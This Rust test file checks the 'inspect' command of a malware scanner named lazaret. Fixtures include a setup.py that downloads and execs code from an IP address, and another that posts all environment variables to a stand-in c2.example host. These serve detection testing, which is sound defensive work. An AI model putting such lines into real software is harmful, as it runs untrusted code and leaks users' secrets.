//! `lazaret inspect` on files and folders.

use crate::{User, clean, malicious};

#[test]
fn malware_is_named_with_rule_file_line_and_phase() {
    let user = User::new();
    user.file("evil.tgz", malicious());
    let ran = user.run(&["inspect", "evil.tgz"]);
    ran.ended(20, &["MALICIOUS  evil.tgz", "runs-downloaded-code", "proof", "runs at install", "setup.py:3", "> 3 |"]);
    assert!(ran.out.starts_with("MALICIOUS"), "the verdict comes first:\n{}", ran.out);
    assert_eq!(ran.talk, "", "nobody watches, so there is no talk");
}

#[test]
fn a_clean_package_is_benign() {
    let user = User::new();
    user.file("plain.tgz", clean());
    user.run(&["inspect", "plain.tgz"]).ended(0, &["BENIGN  plain.tgz", "Looked at: everything (2 files"]);
}

#[test]
fn the_name_of_an_archive_is_not_trusted() {
    let user = User::new();
    user.file("holiday.jpg", malicious());
    user.run(&["inspect", "holiday.jpg"]).ended(20, &["runs-downloaded-code"]);
}

#[test]
fn a_folder_is_inspected_as_it_is() {
    let user = User::new();
    user.file("project/package.json", r#"{"name": "plain", "version": "1.0.0"}"#);
    user.run(&["inspect", "project"]).ended(0, &["BENIGN  project"]);
    user.file("project/setup.py", "import requests as r\nexec(r.get('http://198.51.100.7/x').text)\n");
    user.run(&["inspect", "project"]).ended(20, &["setup.py:2"]);
}

#[test]
fn what_is_too_large_to_be_read_is_incomplete() {
    let user = User::new();
    let long = vec![b'a'; 2 << 20];
    user.file("long.tgz", testkit::archive::tgz(&[("package/long.txt", &long)]));
    user.run(&["inspect", "--limit-file", "1", "long.tgz"]).ended(30, &["INCONCLUSIVE", "Not looked at", "limit"]);
}

#[test]
fn nothing_to_look_at_is_no_verdict() {
    let user = User::new();
    user.file("empty.tgz", b"");
    user.file("hollow.tgz", testkit::archive::tgz(&[]));
    user.run(&["inspect", "empty.tgz"]).ended(3, &["COULD NOT BE GOT  empty.tgz", "nothing in it"]);
    user.run(&["inspect", "hollow.tgz"]).ended(3, &["COULD NOT BE GOT  hollow.tgz", "nothing in it"]);
}

#[test]
fn the_weightiest_of_many_targets_decides_and_none_stops_another() {
    let user = User::new();
    user.file("evil.tgz", malicious());
    user.file("plain.tgz", clean());
    user.run(&["inspect", "plain.tgz", "./no-such-file"]).ended(3, &["benign", "./no-such-file does not exist"]);
    user.run(&["inspect", "plain.tgz", "pkg:npm/@@", "./no-such-file"]).ended(2, &["benign", "pkg:npm/@@"]);
    let targets = ["inspect", "./no-such-file", "pkg:oops/x", "plain.tgz", "evil.tgz"];
    let ran = user.run(&targets);
    ran.ended(20, &["4 targets: 1 malicious, 1 benign, 2 could not be got"]);
    let last = ran.out.find("MALICIOUS").expect("a verdict");
    assert!(ran.out.find("COULD NOT BE GOT").expect("a failure") < last, "the weightiest stands last:\n{}", ran.out);
}

#[test]
fn a_list_comes_from_stdin() {
    let user = User::new();
    user.file("evil.tgz", malicious());
    user.file("plain.tgz", clean());
    let list = "# what came today\nplain.tgz\n\n  evil.tgz  \n";
    user.run_with(&["inspect", "-"], list).ended(20, &["2 targets: 1 malicious, 1 benign"]);
    user.run_with(&["inspect", "-"], "\n# nothing\n").ended(2, &["names no target"]);
}

#[test]
fn quiet_prints_only_what_is_not_benign() {
    let user = User::new();
    user.file("evil.tgz", malicious());
    user.file("plain.tgz", clean());
    let ran = user.run(&["inspect", "-q", "plain.tgz", "evil.tgz"]);
    ran.ended(20, &["malicious", "evil.tgz"]);
    assert_eq!(ran.out.lines().count(), 1, "{}", ran.out);
    assert_eq!(user.run(&["inspect", "-q", "plain.tgz"]).ended(0, &[]).out, "");
}

#[test]
fn rules_of_the_user_join_the_findings() {
    let user = User::new();
    user.file("plain.tgz", clean());
    let rule = "rule says_add { strings: $a = \"function add\" condition: $a }";
    user.file("mine/words.yar", rule);
    user.run(&["inspect", "--yara", "mine", "plain.tgz"]).ended(10, &["SUSPICIOUS", "says_add", "index.js"]);
    user.file("mine/wrong.yara", "rule broken {");
    user.run(&["inspect", "--yara", "mine", "plain.tgz"]).ended(2, &["error:", "wrong.yara"]);
    user.run(&["inspect", "--yara", "nowhere", "plain.tgz"]).ended(2, &["error:", "nowhere"]);
}

#[test]
fn a_package_that_could_kill_its_reader_stops_nobody() {
    let user = User::new();
    let deep = format!("{}1{}", "(".repeat(200_000), ")".repeat(200_000));
    user.file("deep.tgz", testkit::archive::tgz(&[("package/deep.js", deep.as_bytes())]));
    user.file("plain.tgz", clean());
    let ran = user.run(&["inspect", "deep.tgz", "plain.tgz"]);
    assert!(matches!(ran.code, 0 | 10 | 20 | 30), "{} {}", ran.code, ran.out);
    ran.ended(ran.code, &["2 targets:", "plain.tgz  2 files"]);
}

#[test]
fn indicators_of_compromise_are_named_and_cannot_be_followed() {
    let user = User::new();
    let code = "import os, requests\nhome = 'https://homepage.example/about'\nwallet = '1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa'\n\
        requests.post('https://c2.example/in', data=dict(os.environ))\nopen('/tmp/.x', 'w').write(wallet)\n";
    let files: [(&str, &[u8]); 2] =
        [("x-1.0/setup.py", code.as_bytes()), ("x-1.0/README.md", b"https://readme.example/a")];
    user.file("evil.tgz", testkit::archive::tgz(&files));
    let ran = user.run(&["inspect", "evil.tgz"]);
    ran.ended(
        20,
        &[
            "hxxps://c2[.]example/in",
            "c2[.]example  sent to",
            "bitcoin:1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa",
            "/tmp/.x  written",
        ],
    );
    assert!(!ran.out.contains("readme") && !ran.out.contains("homepage[.]example"), "{}", ran.out);
}
